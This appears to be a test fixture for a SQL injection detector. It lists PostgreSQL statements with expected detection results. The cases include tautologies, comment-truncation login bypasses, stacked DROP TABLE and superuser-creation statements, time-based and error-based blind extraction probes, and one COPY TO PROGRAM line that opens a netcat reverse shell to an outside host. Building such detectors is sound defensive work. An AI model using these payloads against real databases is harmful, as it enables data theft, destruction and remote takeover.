-- Injected conditions and statements as they reach PostgreSQL: tautologies
-- in every clause and statement kind, comment truncation, stacked queries,
-- time-based blind probes and error-based extraction. Each case says what
-- catches it; `caught=no` marks what the heuristics do not see (listed in
-- docs/sql-corpus.md).

-- @case pgi_update_tautology
-- @expect op=UPDATE objects=users where=yes inj_has=tautology
UPDATE users SET role = 'admin' WHERE id = 5 OR 1=1

-- @case pgi_delete_tautology
-- @expect op=DELETE objects=sessions inj_has=tautology
DELETE FROM sessions WHERE token = '' OR '1'='1'

-- @case pgi_paren_tautology
-- @expect objects=users inj_has=tautology
SELECT * FROM users WHERE (username = '') OR ('1'='1') AND (password_hash = '') OR ('1'='1')

-- @case pgi_or_true
-- @expect objects=users inj_has=tautology
SELECT * FROM users WHERE id = 1 OR TRUE

-- @case pgi_or_true_lower
-- @expect objects=users inj_has=tautology
select * from users where id = 1 or true

-- @case pgi_or_a_a
-- @expect objects=users inj_has=tautology
SELECT * FROM users WHERE id = 1 or 'a' = 'a'

-- @case pgi_or_abc
-- @expect objects=users inj_has=tautology
SELECT * FROM users WHERE id = 1 OR 'abc'='abc'

-- @case pgi_or_2_2
-- @expect objects=users inj_has=tautology
SELECT * FROM users WHERE id = 1 OR 2 = 2

-- @case pgi_or_1_1_and
-- @expect objects=users inj_has=tautology
SELECT * FROM users WHERE id = 1 OR 1 = 1 AND active

-- @case pgi_or_paren_no_space
-- @expect objects=users inj_has=tautology
SELECT * FROM users WHERE id=1 OR(1=1)

-- @case pgi_or_comment_space
-- @expect objects=users inj_has=tautology
SELECT * FROM users WHERE id=1/**/OR/**/1=1

-- @case pgi_or_newlines
-- @expect objects=users inj_has=tautology
SELECT * FROM users WHERE id=1
OR
1=1

-- @case pgi_or_same_column
-- @expect objects=accounts inj_has=tautology
SELECT * FROM accounts WHERE user_id = 7 OR user_id = user_id

-- @case pgi_or_same_quoted_column
-- @expect objects=accounts inj_has=tautology
SELECT * FROM accounts WHERE user_id = 7 OR "user_id" = "user_id"

-- @case pgi_or_same_qualified
-- @expect objects=accounts inj_has=tautology
SELECT * FROM accounts WHERE user_id = 7 OR accounts.user_id = accounts.user_id

-- @case pgi_tautology_in_cte
-- @expect objects=users inj_has=tautology
WITH u AS (SELECT * FROM users WHERE id = 1 OR 1=1) SELECT * FROM u

-- @case pgi_tautology_in_subquery
-- @expect objects=t,u inj_has=tautology
SELECT * FROM t WHERE x IN (SELECT id FROM u WHERE owner = 'x' OR 1=1)

-- @case pgi_tautology_join_on
-- @expect objects=a,b inj_has=tautology
SELECT * FROM a JOIN b ON a.id = b.a_id OR 1=1

-- @case pgi_tautology_having
-- @expect objects=orders inj_has=tautology
SELECT customer_id FROM orders GROUP BY customer_id HAVING sum(total) > 100 OR 1=1

-- @case pgi_tautology_literal_sensitive
-- @expect objects=users literal_sensitive=yes
SELECT * FROM users WHERE username = 'x' OR 'a'='a'

-- @case pgi_or_false_probe
-- @expect objects=users literal_sensitive=yes caught=no
SELECT * FROM users WHERE username = 'x' OR 'a'='b'

-- @case pgi_tautology_fp_differs
-- @expect diff_fp=fp_users_base inj_has=tautology
SELECT * FROM users WHERE username = 'x' OR 1=1

-- @case pgi_comment_admin
-- @expect objects=users inj=comment_split
SELECT * FROM users WHERE username = 'admin'--' AND password_hash = 'e10adc3949ba59abbe56e057f20f883e'

-- @case pgi_comment_admin_space
-- @expect objects=users inj=comment_split
SELECT * FROM users WHERE username = 'admin' -- ' AND password_hash = 'e10adc3949ba59abbe56e057f20f883e'

-- @case pgi_comment_admin_block
-- @expect status=unparseable
SELECT * FROM users WHERE username = 'admin'/*' AND password_hash = 'e10adc3949ba59abbe56e057f20f883e'

-- @case pgi_comment_or_1_1
-- @expect objects=users inj_has=tautology,comment_split
SELECT * FROM users WHERE username = '' OR 1=1--' AND password_hash = ''

-- @case pgi_comment_limit_cut
-- @expect objects=products inj_has=comment_split
SELECT id, name FROM products WHERE category = 'Gifts'--' AND released = 1 LIMIT 10

-- @case pgi_stacked_drop
-- @expect stmts=2 classes=ddl objects=products,users inj_has=stacked
SELECT * FROM products WHERE name = 'x'; DROP TABLE users; --'

-- @case pgi_stacked_drop_numeric
-- @expect stmts=2 classes=ddl objects=products,users
SELECT * FROM products WHERE id = 1; DROP TABLE users

-- @case pgi_stacked_update
-- @expect stmts=2 ops=SELECT,UPDATE objects=products,users inj_has=stacked
SELECT * FROM products WHERE name = 'x'; UPDATE users SET role = 'admin' WHERE username = 'mallory'; --'

-- @case pgi_stacked_insert_user
-- @expect stmts=2 objects=products,users inj_has=stacked
SELECT * FROM products WHERE name = ''; INSERT INTO users (username, role) VALUES ('mallory', 'admin')--'

-- @case pgi_stacked_create_role
-- @expect stmts=2 classes=grant
SELECT * FROM products WHERE id = 1; CREATE ROLE mallory LOGIN SUPERUSER PASSWORD 'x'--

-- @case pgi_stacked_copy_program
-- @expect stmts=2 classes=outfile
SELECT * FROM products WHERE id = 1; COPY (SELECT 'x') TO PROGRAM 'nc 203.0.113.9 4444 -e /bin/sh'--

-- @case pgi_stacked_no_space
-- @expect stmts=2 classes=ddl
SELECT * FROM products WHERE id=1;DROP TABLE users--

-- @case pgi_stacked_sleep
-- @expect stmts=2 functions=pg_sleep
SELECT * FROM products WHERE id = 1; SELECT pg_sleep(5)--

-- @case pgi_time_where
-- @expect objects=products functions=pg_sleep inj_has=time_probe
SELECT * FROM products WHERE id = 1 AND 1=(SELECT 1 FROM pg_sleep(5))

-- @case pgi_time_case
-- @expect objects=users functions=pg_sleep,substr inj_has=time_probe
SELECT * FROM users WHERE id = 1 AND (SELECT CASE WHEN (substr(current_user,1,1)='p') THEN pg_sleep(5) ELSE pg_sleep(0) END) IS NOT NULL

-- @case pgi_time_or
-- @expect objects=users functions=pg_sleep inj_has=time_probe
SELECT * FROM users WHERE username = '' OR pg_sleep(5) IS NULL

-- @case pgi_time_sleep_for
-- @expect objects=users functions=pg_sleep_for inj_has=time_probe
SELECT * FROM users WHERE id = 1 AND pg_sleep_for('5 seconds') IS NOT NULL

-- @case pgi_time_union
-- @expect objects=products functions=pg_sleep inj_has=time_probe unions=1
SELECT name, price FROM products WHERE id = 1 UNION SELECT NULL, pg_sleep(5)::text

-- @case pgi_time_order_by
-- @expect objects=products functions=pg_sleep
SELECT id, name FROM products ORDER BY (SELECT CASE WHEN 1=1 THEN pg_sleep(5)::text ELSE name END)

-- @case pgi_heavy_query
-- @expect objects=products,pg_class caught=no
SELECT * FROM products WHERE id = 1 AND (SELECT count(*) FROM pg_class a, pg_class b, pg_class c) > 0 AND 1=2

-- @case pgi_error_cast
-- @expect objects=products inj= caught=no
SELECT * FROM products WHERE id = 1 AND 1=CAST((SELECT version()) AS int)

-- @case pgi_error_cast_comment
-- @expect objects=products inj=comment_split
SELECT * FROM products WHERE name = '' AND 1=CAST((SELECT current_user) AS int)--'

-- @case pgi_error_chr
-- @expect objects=products inj= caught=no
SELECT * FROM products WHERE id = 1 AND 7778=CAST((CHR(113)||CHR(106)||CHR(122)||(SELECT (CASE WHEN (7778=7778) THEN 1 ELSE 0 END))::text||CHR(113)) AS NUMERIC)

-- @case pgi_error_xml
-- @expect objects=products caught=no
SELECT * FROM products WHERE id = 1 AND 1=(SELECT 1 FROM query_to_xml('select usename from pg_user', true, true, ''))

-- @case pgi_boolean_blind
-- @expect objects=users inj= caught=no
SELECT * FROM users WHERE id = 1 AND ascii(substr((SELECT current_user), 1, 1)) > 100

-- @case pgi_order_by_case
-- @expect objects=products inj= caught=no
SELECT id, name FROM products ORDER BY (CASE WHEN (SELECT current_setting('is_superuser'))='on' THEN name ELSE price::text END)

-- @case pgi_second_order
-- @expect objects=users inj= caught=no
UPDATE users SET email = 'x@example.com' WHERE username = 'admin''--'

-- @case pgi_like_wildcard
-- @expect objects=users inj= caught=no
SELECT * FROM users WHERE username LIKE '%' AND password_hash LIKE '%'
